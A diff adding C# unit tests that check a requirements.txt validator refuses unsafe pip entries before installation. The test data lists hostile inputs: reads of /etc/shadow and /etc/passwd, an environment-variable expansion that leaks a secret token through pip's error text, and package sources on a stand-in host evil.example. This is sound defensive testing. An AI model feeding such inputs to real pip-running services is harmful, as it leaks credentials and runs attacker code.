@@ -322,6 +322,38 @@ public sealed class BundleCacheTests : IDisposable
         answer.Trim().ShouldBe("42");
     }
 
+    [Theory]
+    [InlineData("-r /etc/shadow\n")] // pip's error quoted the file's first line: "invalid requirement 'root:*:...'"
+    [InlineData("x==${SECRET_TOKEN}\n")] // pip fills ${...} from its environment, the server's: "... for 'x==hunter2'"
+    [InlineData("--index-url http://evil.example/simple\nanything\n")]
+    [InlineData("evil @ https://evil.example/evil-1.0.tar.gz\n")]
+    [InlineData("./code/evilpkg\n")]
+    [InlineData("git+https://evil.example/evil.git\n")]
+    [InlineData("-e .\n")]
+    [InlineData("file:///etc/passwd\n")]
+    [InlineData("ok==1.0\nfine \\\n  -r /etc/shadow\n")]
+    public async Task Requirements_that_do_more_than_name_packages_are_refused_before_pip_runs(string requirements)
+    {
+        var stored = await _store.PutAsync(Zip(("code/function.py", FunctionPy), ("code/requirements.txt", requirements)), Ct);
+        var cache = Cache(o => o.PipOptions = ["--no-index"]);
+        var e = await Should.ThrowAsync<PolicyGridException>(() => cache.GetAsync(stored.Code, null, Ct));
+        e.Status.ShouldBe(400);
+        e.Message.ShouldContain("is not a plain requirement");
+        e.Message.ShouldNotContain("root:");
+        Directory.Exists(Path.Combine(cache.CacheDirectory, stored.Sha256)).ShouldBeFalse();
+    }
+
+    [Fact]
+    public void Plain_requirements_with_extras_specifiers_markers_hashes_and_comments_pass_the_check()
+    {
+        var file = _dir.File("requirements.txt");
+        File.WriteAllText(file, "# pinned\n\nrequests[socks, security] >=2.0,<3 ; python_version >= \"3.8\" and sys_platform != 'win32'  # why\n" +
+                                "numpy==1.26.4 --hash=sha256:0123abcd --hash=sha256:ffee\nFoo_Bar.baz~=1.0\npkg (>=1.0)\nsplit \\\n  ==1.0\nplain\n");
+        BundleRequirements.CheckRequirements(file);
+        File.WriteAllText(file, "ok\nname-with-dash===1.0\n-c constraints.txt\n");
+        Should.Throw<PolicyGridException>(() => BundleRequirements.CheckRequirements(file)).Message.ShouldContain("line 3: '-c constraints.txt'");
+    }
+
     [Fact]
     public async Task A_requirement_that_cannot_be_installed_is_a_400_naming_it()
     {
